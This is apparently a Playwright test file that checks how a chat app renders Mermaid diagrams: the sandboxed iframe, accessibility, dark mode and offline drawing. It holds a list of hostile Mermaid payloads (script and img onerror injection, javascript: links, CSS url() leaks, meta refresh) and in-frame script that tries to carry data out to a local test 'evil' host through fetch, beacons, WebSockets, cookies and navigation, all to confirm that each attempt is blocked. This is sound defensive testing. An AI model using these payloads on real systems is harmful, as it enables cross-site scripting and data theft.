/** Diagrams in the chat of both hosts: drawn on a click, in a frame that can reach nothing. */
import AxeBuilder from '@axe-core/playwright';
import type { BrowserContext, Frame, Page } from '@playwright/test';
import { expect, test } from '../fixtures.ts';
import type { Gatehouse } from '../gatehouse.ts';
import { answers, say, settled } from '../pwa/chat-page.ts';

const SHOTS = process.env.GATEHOUSE_SHOTS;
const HOSTS = ['PWA', 'options page'] as const;

const fence = (text: string) => `\`\`\`mermaid\n${text}\n\`\`\``;
const FLOW =
  'flowchart LR\n  A[Page] -->|calls| B{Gatehouse}\n  B -->|allowed| C[Provider]\n  B -->|refused| D[403]';

async function openChat(host: (typeof HOSTS)[number], gatehouse: Gatehouse, pwa: Page) {
  if (host === 'PWA') return pwa;
  const page = await gatehouse.context.newPage();
  await page.goto(gatehouse.options.url().replace(/#.*/, '#/chat'));
  return page;
}

/** The echo of a text, in a chat of its own. */
async function show(page: Page, text: string): Promise<void> {
  await page.evaluate(() => (location.hash = '#/chat'));
  await expect(answers(page)).toHaveCount(0);
  await say(page, text);
  await expect(answers(page)).toHaveCount(1);
  await settled(page);
}

const drawButton = (page: Page) =>
  answers(page).getByRole('button', { name: 'Draw diagram' }).last();

/** The sandboxed frame itself: the innermost one. */
async function drawnFrame(page: Page): Promise<Frame> {
  const innermost = () =>
    page.frames().filter((frame) => frame.childFrames().length === 0 && frame.parentFrame());
  await expect
    .poll(
      async () => {
        const counts = innermost().map((frame) =>
          frame
            .locator('body > svg')
            .count()
            .catch(() => 0),
        );
        return (await Promise.all(counts)).some((count) => count > 0);
      },
      { timeout: 30_000 },
    )
    .toBe(true);
  const found = innermost().at(-1);
  if (!found) throw new Error('no frame');
  return found;
}

/** Each tries another way out of the frame. */
const HOSTILE = [
  '%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%\nflowchart TD\n  A["<img src=LEAK onerror=alert(1)>"] --> B["<iframe src=LEAK></iframe><script>alert(1)</script>"]',
  '%%{init: {"themeCSS": "svg{background:url(LEAK)} @import url(LEAK);"}}%%\nflowchart TD\n  A --> B',
  '%%{init: {"fontFamily": "x;} *{background:url(LEAK)}", "theme": "base", "themeVariables": {"primaryColor": "url(LEAK)"}}}%%\nflowchart TD\n  A --> B',
  'flowchart TD\n  A --> B --> C\n  click A href "LEAK" "tip" _top\n  click B call alert(1)\n  click C "javascript:alert(1)" _top',
  'flowchart TD\n  A --> D@{ img: "LEAK", label: "picture", w: 60, h: 60 }',
  'flowchart TD\n  A:::x --> B\n  style A fill:url(LEAK)\n  classDef x background:url(LEAK)',
  'sequenceDiagram\n  participant A\n  link A: Dashboard @ LEAK\n  links A: {"x": "javascript:alert(1)"}\n  A->>A: <img src=LEAK>',
  'classDiagram\n  class A\n  link A "LEAK" "tip"\n  click A href "javascript:alert(1)"',
  'gantt\n  dateFormat YYYY-MM-DD\n  section S\n  T :a1, 2026-01-01, 3d\n  click a1 href "LEAK"\n  click a1 call alert(1)',
  '---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n---\nmindmap\n  root((<meta http-equiv=refresh content="0;url=LEAK">))\n    <base href=LEAK>',
];

/** Every answer that came; what a policy stopped has none. */
function watchAnswers(context: BrowserContext): string[] {
  const asked: string[] = [];
  context.on('response', (response) => {
    asked.push(response.url());
  });
  return asked;
}

for (const host of HOSTS) {
  test(`the ${host} draws a diagram on a click, in light and dark, and shows its source again`, async ({
    gatehouse,
    configure,
    pwa,
  }) => {
    test.setTimeout(180_000);
    await configure({});
    const page = await openChat(host, gatehouse, pwa);
    await show(page, `The way of a call:\n\n${fence(FLOW)}`);
    await expect(answers(page).locator('iframe')).toHaveCount(0);
    await drawButton(page).focus();
    await page.keyboard.press('Enter');
    const frame = await drawnFrame(page);
    await expect(frame.locator('svg')).toContainText('Gatehouse');
    const iframe = answers(page).locator('iframe');
    await expect(iframe).toHaveAttribute('title', 'Diagram: flowchart');
    await expect(iframe).toHaveAttribute('aria-busy', 'false');
    await expect(answers(page).getByRole('button', { name: 'Show source' })).toBeFocused();
    for (const colorScheme of ['light', 'dark'] as const) {
      for (const width of [360, 1280]) {
        await page.setViewportSize({ width, height: 800 });
        await page.emulateMedia({ colorScheme, reducedMotion: 'reduce' });
        await page.waitForTimeout(1500);
        if (SHOTS) {
          const name = `diagram-${host.replace(' ', '-')}-${width}-${colorScheme}.png`;
          await page.screenshot({ path: `${SHOTS}/${name}` });
        }
        await expect(async () => {
          const { violations } = await new AxeBuilder({ page }).exclude('iframe').analyze();
          expect(violations.map(({ id, nodes }) => `${id}: ${nodes[0]?.html}`)).toEqual([]);
        }).toPass({ timeout: 15_000 });
      }
    }
    await expect
      .poll(() => frame.locator('html').evaluate((root) => root.style.colorScheme))
      .toBe('dark');
    await answers(page).getByRole('button', { name: 'Show source' }).click();
    await expect(iframe).toHaveCount(0);
    await expect(answers(page).locator('pre')).toContainText('flowchart LR');

    await show(page, fence('flowchart LR\n  A --'));
    await drawButton(page).click();
    await expect(page.getByRole('alert')).toContainText('no diagram that can be drawn', {
      timeout: 30_000,
    });
    await page.getByRole('alert').getByText('Details').click();
    await expect(page.getByRole('alert').locator('code')).toContainText('error');
    await expect(drawButton(page)).toBeVisible();
    if (host !== 'PWA') await page.close();
  });

  test(`in the ${host} a hostile diagram and any script in its frame reach nothing`, async ({
    gatehouse,
    configure,
    pwa,
    site,
  }) => {
    test.setTimeout(120_000);
    await configure({});
    const evil = await site({ csp: null });
    const page = await openChat(host, gatehouse, pwa);
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    const leak = `${evil.url}leak`;
    const asked = watchAnswers(page.context());
    let drawn = 0;
    for (const text of HOSTILE) {
      await show(page, fence(text.replaceAll('LEAK', leak)));
      await drawButton(page).click();
      const answer = answers(page).last();
      const frame = answer.locator('iframe');
      await expect(
        frame.and(page.locator('[aria-busy=false]')).or(answer.getByRole('alert')),
      ).toBeVisible({
        timeout: 30_000,
      });
      if ((await frame.count()) === 0) continue;
      drawn += 1;
      const inside = await drawnFrame(page);
      for (const node of await inside.locator('svg .node, svg a, svg .actor').all()) {
        await node.click({ force: true, timeout: 2000 }).catch(() => undefined);
      }
      await expect(
        inside.locator('svg :is(a[href], image, img, iframe, script, meta, base)'),
      ).toHaveCount(0);
    }
    expect(drawn).toBeGreaterThanOrEqual(5);
    const frame = await drawnFrame(page);
    const before = page.url();

    // Worse than any diagram: scripts of an attacker run in the frame.
    const reached = await frame.evaluate(async (url) => {
      const won: string[] = [];
      const attempt = async (name: string, act: () => unknown) => {
        try {
          const result = await act();
          if (result !== undefined && result !== false) won.push(`${name}: ${String(result)}`);
        } catch {
          // refused, as it must be
        }
      };
      const load = (element: HTMLElement, name: string) =>
        new Promise<boolean>((resolve) => {
          element.onload = () => resolve(true);
          element.onerror = () => resolve(false);
          element.setAttribute(name, url);
          document.body.append(element);
          setTimeout(() => resolve(false), 1000);
        });
      await attempt('fetch', async () => (await fetch(url, { mode: 'no-cors' })).type);
      await attempt(
        'virtual',
        async () => (await fetch('https://gatehouse.invalid/v1/models')).status,
      );
      await attempt('image', () => load(document.createElement('img'), 'src'));
      await attempt('script', () => load(document.createElement('script'), 'src'));
      await attempt('style', () => {
        const link = document.createElement('link');
        link.rel = 'stylesheet';
        return load(link, 'href');
      });
      await attempt('beacon', () => void navigator.sendBeacon(url));
      await attempt('parent', () => parent.document.title);
      await attempt('top', () => top?.document.title);
      await attempt('top location', () => top?.location.href);
      await attempt('storage', () => localStorage.length);
      await attempt('database', () => indexedDB.open('gatehouse').readyState);
      await attempt('cookie', () => document.cookie || undefined);
      await attempt('worker', () => new Worker(url));
      await attempt('service worker', () => navigator.serviceWorker.register(url));
      await attempt(
        'extension',
        () => (globalThis as { chrome?: { runtime?: { id?: string } } }).chrome?.runtime?.id,
      );
      await attempt('window', () => open(url) ?? undefined);
      void new WebSocket(url.replace('http', 'ws')).addEventListener('open', () =>
        won.push('socket'),
      );
      await new Promise((resolve) => setTimeout(resolve, 500));
      return won;
    }, leak);
    expect(reached).toEqual([]);

    // Navigating: the top page, and the frame itself to carry something out.
    await frame.evaluate((url) => {
      try {
        (top as Window).location.href = url;
      } catch {
        // refused
      }
    }, leak);
    await page.waitForTimeout(500);
    await frame
      .evaluate((url) => {
        const form = document.createElement('form');
        form.action = url;
        document.body.append(form);
        form.submit();
        location.href = url;
      }, leak)
      .catch(() => undefined);
    await page.waitForTimeout(1000);
    expect(page.url()).toBe(before);
    expect(dialogs).toEqual([]);
    expect(evil.received).toEqual([]);
    await fetch(leak); // it would have been seen
    expect(evil.received).toEqual(['GET /leak']);
    expect(asked.filter((url) => url.includes('leak'))).toEqual([]);
    if (host !== 'PWA') await page.close();
  });
}

test('the PWA draws without a network once it has drawn, and says what is missing before', async ({
  pwa,
}) => {
  test.setTimeout(120_000);
  await pwa.context().setOffline(true);
  await show(pwa, fence(FLOW));
  await drawButton(pwa).click();
  await expect(pwa.getByRole('alert')).toContainText('not on this computer yet');
  await pwa.context().setOffline(false);
  await drawButton(pwa).click();
  await drawnFrame(pwa);
  await pwa.context().setOffline(true);
  await pwa.reload();
  await drawButton(pwa).click();
  await drawnFrame(pwa);
  await pwa.context().setOffline(false);
});
